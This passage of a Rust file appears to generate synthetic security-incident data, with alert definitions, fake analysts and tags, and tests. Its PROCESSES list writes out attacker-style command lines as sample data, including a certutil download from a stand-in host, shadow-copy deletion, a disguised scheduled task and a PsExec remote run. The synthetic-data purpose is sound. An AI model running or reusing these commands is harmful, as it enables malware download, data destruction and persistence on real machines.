        description: "A process abnormally injected code into another process. As a result, unexpected code may be running in the target process memory. Injection is often used to hide malicious code execution within a trusted process. As a result, the target process may exhibit abnormal behaviors such as opening a listening port or connecting to a command-and-control server.",
        category: "DefenseEvasion",
        mitre: &["T1055", "T1055.001", "T1055.002", "T1055.012"],
        service: MDE,
        detection: "WindowsDefenderAtp",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Mimikatz credential theft tool",
        description: "The credential theft tool Mimikatz was detected on this device. Mimikatz is a well-known tool that can dump plaintext passwords, password hashes, PIN codes and Kerberos tickets from memory. Attackers commonly use it to obtain credentials of other accounts and move laterally in the network.",
        category: "CredentialAccess",
        mitre: &["T1003", "T1003.001", "T1558.003"],
        service: MDE,
        detection: "WindowsDefenderAv",
        threat: Some("Mimikatz"),
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Ransomware behavior detected in the file system",
        description: "A process is modifying a large number of files in a manner that is consistent with ransomware encryption. Ransomware encrypts files on the device and demands payment for the decryption key. Immediately isolate the device and investigate the process tree.",
        category: "Ransomware",
        mitre: &["T1486", "T1490", "T1489"],
        service: MDE,
        detection: "WindowsDefenderAtp",
        threat: None,
        actor: Some("Storm-0501"),
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "'Emotet' malware was detected",
        description: "Emotet malware was detected on this device. Emotet is a modular banking trojan that spreads through malicious email attachments and downloads additional payloads such as TrickBot or Qakbot. This detection might indicate the device is compromised.",
        category: "Malware",
        mitre: &["T1204.002", "T1566.001"],
        service: MDE,
        detection: "WindowsDefenderAv",
        threat: Some("Emotet"),
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "'Qakbot' backdoor was prevented",
        description: "Qakbot backdoor activity was prevented on this device. Qakbot is a banking trojan and backdoor used as an initial access broker by several ransomware operators. Review the device timeline for related activity.",
        category: "Malware",
        mitre: &["T1055", "T1105"],
        service: MDE,
        detection: "WindowsDefenderAv",
        threat: Some("Qakbot"),
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Suspicious sequence of exploration activities",
        description: "A process called a set of windows commands. These commands can be used by attackers in order to identify assets of value and coordinate lateral movement after compromising a machine.",
        category: "Discovery",
        mitre: &["T1087", "T1087.001", "T1069", "T1016", "T1018", "T1135"],
        service: MDE,
        detection: "WindowsDefenderAtp",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Anomalous scheduled task created",
        description: "A scheduled task was created by an unusual process. Attackers create scheduled tasks to maintain persistence on a device and to launch malicious code at system startup or at regular intervals.",
        category: "Persistence",
        mitre: &["T1053.005"],
        service: MDE,
        detection: "WindowsDefenderAtp",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Possible lateral movement using PsExec",
        description: "A remote service was created on this device using PsExec. Attackers use PsExec and similar tools to execute commands on remote devices with stolen credentials and move laterally through the network.",
        category: "LateralMovement",
        mitre: &["T1021.002", "T1569.002", "T1570"],
        service: MDE,
        detection: "WindowsDefenderAtp",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Connection to a custom network indicator",
        description: "An endpoint has connected to a URL or domain in your list of custom indicators. Review the network connection and the process that initiated it.",
        category: "CommandAndControl",
        mitre: &["T1071", "T1071.001"],
        service: MDE,
        detection: "CustomerTI",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Unwanted software was detected",
        description: "Potentially unwanted application 'BrowserModifier:Win32/Prifou' was detected. Such software may change browser settings, display advertisements or collect browsing data without clear consent.",
        category: "UnwantedSoftware",
        mitre: &[],
        service: MDE,
        detection: "WindowsDefenderAv",
        threat: Some("Prifou"),
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Rare process connecting to a Tor relay",
        description: "Custom detection rule 'Rare process connecting to Tor' matched. A process that is rarely seen in the organization established connections to known Tor entry nodes, which may indicate command-and-control traffic or data exfiltration.",
        category: "CommandAndControl",
        mitre: &["T1090.003"],
        service: M365D,
        detection: "CustomDetection",
        threat: None,
        actor: None,
        scope: Scope::Endpoint,
    },
    AlertKind {
        title: "Email messages containing malicious URL removed after delivery",
        description: "Emails with a malicious URL were delivered and later removed by zero-hour auto purge. The URL was identified as malicious after delivery. Review the recipients for any clicks on the URL.",
        category: "InitialAccess",
        mitre: &["T1566.002"],
        service: MDO,
        detection: "OfficeATP",
        threat: None,
        actor: None,
        scope: Scope::Email,
    },
    AlertKind {
        title: "Email reported by user as malware or phish",
        description: "A user reported an email message as malware or phish. An automated investigation was triggered to examine the message, its sender and other recipients.",
        category: "InitialAccess",
        mitre: &["T1566"],
        service: MDO,
        detection: "OfficeATP",
        threat: None,
        actor: None,
        scope: Scope::Email,
    },
    AlertKind {
        title: "A potentially malicious URL click was detected",
        description: "A user clicked a URL in an email message that was later identified as malicious. The click was allowed by Safe Links policy at the time of click.",
        category: "InitialAccess",
        mitre: &["T1566.002", "T1204.001"],
        service: MDO,
        detection: "OfficeATP",
        threat: None,
        actor: None,
        scope: Scope::Email,
    },
    AlertKind {
        title: "Suspicious inbox manipulation rule",
        description: "A user created an inbox rule that moves or deletes messages, which is a common technique attackers use after compromising a mailbox to hide their activity or to forward messages to an external address.",
        category: "DefenseEvasion",
        mitre: &["T1564.008", "T1114.003"],
        service: MDA,
        detection: "MCAS",
        threat: None,
        actor: None,
        scope: Scope::Cloud,
    },
    AlertKind {
        title: "Impossible travel activity",
        description: "The user signed in from two geographically distant locations within a time period shorter than the time it would take to travel between them. This may indicate that a different user is using the same credentials.",
        category: "InitialAccess",
        mitre: &["T1078"],
        service: MDA,
        detection: "MCAS",
        threat: None,
        actor: None,
        scope: Scope::Cloud,
    },
    AlertKind {
        title: "Mass download by a single user",
        description: "A user performed an unusual number of file downloads from a cloud storage service in a single session compared to the baseline learned for this user. This may indicate an attempt to exfiltrate data.",
        category: "Exfiltration",
        mitre: &["T1530"],
        service: MDA,
        detection: "MCAS",
        threat: None,
        actor: None,
        scope: Scope::Cloud,
    },
    AlertKind {
        title: "Unfamiliar sign-in properties",
        description: "The sign-in had properties that were not seen recently for this user, such as an unfamiliar IP address, ASN, location or user agent.",
        category: "InitialAccess",
        mitre: &["T1078.004"],
        service: AADIP,
        detection: "AzureAdIdentityProtection",
        threat: None,
        actor: None,
        scope: Scope::Cloud,
    },
    AlertKind {
        title: "Password spray",
        description: "Multiple usernames were attacked using common passwords in a unified brute force manner to gain unauthorized access.",
        category: "CredentialAccess",
        mitre: &["T1110.003"],
        service: AADIP,
        detection: "AzureAdIdentityProtection",
        threat: None,
        actor: Some("Midnight Blizzard"),
        scope: Scope::Cloud,
    },
    AlertKind {
        title: "Suspected brute-force attack (LDAP)",
        description: "An actor attempted to guess the password of several accounts using simple bind LDAP authentication against a domain controller. Several attempts were successful.",
        category: "CredentialAccess",
        mitre: &["T1110", "T1110.001", "T1110.003"],
        service: MDI,
        detection: "AzureAtp",
        threat: None,
        actor: None,
        scope: Scope::Identity,
    },
    AlertKind {
        title: "Account enumeration reconnaissance",
        description: "An actor on a device performed suspicious account enumeration, querying the domain controller for the existence of many accounts.",
        category: "Discovery",
        mitre: &["T1087", "T1087.002"],
        service: MDI,
        detection: "AzureAtp",
        threat: None,
        actor: None,
        scope: Scope::Identity,
    },
    AlertKind {
        title: "Suspected DCSync attack (replication of directory services)",
        description: "A replication request was initiated from a device that is not a domain controller. Attackers use directory replication to obtain credentials of any account, including the krbtgt account.",
        category: "CredentialAccess",
        mitre: &["T1003", "T1003.006"],
        service: MDI,
        detection: "AzureAtp",
        threat: None,
        actor: None,
        scope: Scope::Identity,
    },
    AlertKind {
        title: "Suspicious LDAP query",
        description: "A suspicious Lightweight Directory Access Protocol (LDAP) query was detected that is associated with a known attack tool. Attackers use such queries to map users, groups and privileged accounts.",
        category: "Discovery",
        mitre: &["T1087.002", "T1069.002"],
        service: MDI,
        detection: "AzureAtp",
        threat: None,
        actor: None,
        scope: Scope::Identity,
    },
];

const PHASES: &[&str] = &[
    "Initial access",
    "Execution",
    "Persistence",
    "Defense evasion",
    "Credential access",
    "Discovery",
    "Lateral movement",
    "Command and control",
    "Exfiltration",
    "Impact",
];

const ANALYSTS: &[&str] = &[
    "secop1@contoso.com",
    "secop2@contoso.com",
    "secop3@contoso.com",
    "alex.wilber@contoso.com",
    "megan.bowen@contoso.com",
    "diego.siciliani@contoso.com",
    "isaiah.langer@contoso.com",
];

const TAGS: &[&str] = &[
    "Ransomware",
    "Phishing",
    "VIP",
    "Crown jewel",
    "Tier0",
    "Red team exercise",
    "BEC",
    "Needs triage",
    "Escalated",
];

const COMMENT_TEXTS: &[&str] = &[
    "Investigating; isolated the device pending review.",
    "Confirmed with the user, this was expected activity.",
    "Escalated to tier 2.",
    "Password reset and sessions revoked for the affected account.",
    "Linked to the ongoing phishing campaign, see the related incidents.",
    "Automated investigation remediated the threat.",
];

const FIRST_NAMES: &[&str] = &[
    "Alex", "Megan", "Diego", "Isaiah", "Lynne", "Nestor", "Patti", "Pradeep", "Adele", "Grady", "Johanna", "Lee",
    "Miriam", "Joni",
];

const LAST_NAMES: &[&str] = &[
    "Wilber",
    "Bowen",
    "Siciliani",
    "Langer",
    "Robbins",
    "Wilke",
    "Fernandez",
    "Gupta",
    "Vance",
    "Archie",
    "Lorenz",
    "Gu",
    "Graham",
    "Sherman",
];

const BAD_DOMAINS: &[&str] = &[
    "login-micros0ft-secure.com",
    "invoice-portal.top",
    "cdn-update-check.net",
    "shared-docs-view.info",
    "pay-notice.xyz",
    "tor-exit-relay.org",
];

const FILE_NAMES: &[&str] = &[
    "Invoice_2024_0412.docm",
    "payroll_update.xlsm",
    "mimikatz.exe",
    "update.ps1",
    "svch0st.exe",
    "setup_x64.msi",
    "scan_0093.pdf.js",
    "rclone.exe",
];

const PROCESSES: &[(&str, &str, &str)] = &[
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", ""),
    (
        "cmd.exe",
        "C:\\Windows\\System32",
        "/c whoami /all && net group \"Domain Admins\" /domain",
    ),
    (
        "rundll32.exe",
        "C:\\Windows\\System32",
        "C:\\ProgramData\\tmp4f2a.dll,DllRegisterServer",
    ),
    (
        "schtasks.exe",
        "C:\\Windows\\System32",
        "/create /sc minute /mo 30 /tn \"OneDrive Updater\" /tr C:\\ProgramData\\upd.exe",
    ),
    (
        "PsExec64.exe",
        "C:\\Tools",
        "\\\\srv-sql-0012 -s -d cmd.exe /c C:\\Windows\\Temp\\svc.bat",
    ),
    (
        "wmic.exe",
        "C:\\Windows\\System32\\wbem",
        "shadowcopy delete /nointeractive",
    ),
    (
        "certutil.exe",
        "C:\\Windows\\System32",
        "-urlcache -split -f http://cdn-update-check.net/a.bin C:\\Users\\Public\\a.exe",
    ),
];

const SUBJECTS: &[&str] = &[
    "Action required: your mailbox is almost full",
    "Invoice #44721 overdue",
    "Shared document: Q3 salary review",
    "Your package could not be delivered",
    "Urgent wire transfer request",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::now_ticks;

    fn params(seed: u64) -> DataParams {
        DataParams {
            seed,
            anchor: now_ticks() / TICKS_PER_DAY * TICKS_PER_DAY,
            missing_share: 0.05,
            tenant_id: "00000000-0000-0000-0000-00000000d3f0".into(),
        }
    }

    #[test]
    fn size_distribution_has_a_few_kb_median_and_a_heavy_tail() {
        let p = params(42);
        let mut sizes: Vec<usize> = (1..=2_000)
            .filter_map(|id| generate_summary(&p, id))
            .map(|s| render(&p, &s).len())
            .collect();
        sizes.sort_unstable();
        let median = sizes[sizes.len() / 2];
        let max = *sizes.last().unwrap();
        let p95 = sizes[sizes.len() * 95 / 100];
        eprintln!("n={} min={} median={median} p95={p95} max={max}", sizes.len(), sizes[0]);
        assert!((1_500..=15_000).contains(&median), "median {median}");
        assert!((100_000..=900_000).contains(&max), "max {max}");
        assert!(p95 > 5 * median, "p95 {p95} should be far above the median");
        // About 5% missing.
        assert!((1_850..=1_950).contains(&sizes.len()), "{}", sizes.len());
    }

    #[test]
    fn rendering_is_deterministic_and_complete() {
        let p = params(7);
        let s = generate_summary(&p, 3).or_else(|| generate_summary(&p, 4)).unwrap();
        let a = render(&p, &s);
        let b = render(&p, &generate_summary(&p, s.id).unwrap());
        assert_eq!(a, b);
        let v: serde_json::Value = serde_json::from_slice(&a).unwrap();
        for key in [
            "incidentId",
            "redirectIncidentId",
            "incidentName",
            "createdTime",
            "lastUpdateTime",
            "assignedTo",
            "classification",
            "determination",
            "detectionSource",
            "status",
            "severity",
            "tags",
            "comments",
            "alerts",
        ] {
            assert!(v.get(key).is_some(), "missing {key}");
        }
        let alert = &v["alerts"][0];
        for key in [
            "alertId",
            "incidentId",
            "serviceSource",
            "creationTime",
            "lastUpdatedTime",
            "resolvedTime",
            "firstActivity",
            "lastActivity",
            "title",
            "description",
            "category",
            "status",
            "severity",
            "investigationId",
            "investigationState",
            "classification",
            "determination",
            "detectionSource",
            "assignedTo",
            "actorName",
            "threatFamilyName",
            "mitreTechniques",
            "devices",
            "entities",
        ] {
            assert!(alert.get(key).is_some(), "alert missing {key}");
        }
        let device = &alert["devices"][0];
        for key in [
            "mdatpDeviceId",
            "aadDeviceId",
            "deviceDnsName",
            "osPlatform",
            "version",
            "osProcessor",
            "osBuild",
            "healthStatus",
            "riskScore",
            "rbacGroupName",
            "rbacGroupId",
            "firstSeen",
        ] {
            assert!(device.get(key).is_some(), "device missing {key}");
        }
        assert!(alert["entities"][0]["entityType"].is_string());
    }

    #[test]
    fn different_seeds_differ() {
        let a = params(1);
        let b = params(2);
        let sa: Vec<_> = (1..50).filter_map(|id| generate_summary(&a, id)).collect();
        let sb: Vec<_> = (1..50).filter_map(|id| generate_summary(&b, id)).collect();
        let ra: Vec<_> = sa.iter().map(|s| render(&a, s)).collect();
        let rb: Vec<_> = sb.iter().map(|s| render(&b, s)).collect();
        assert_ne!(ra, rb);
    }
}
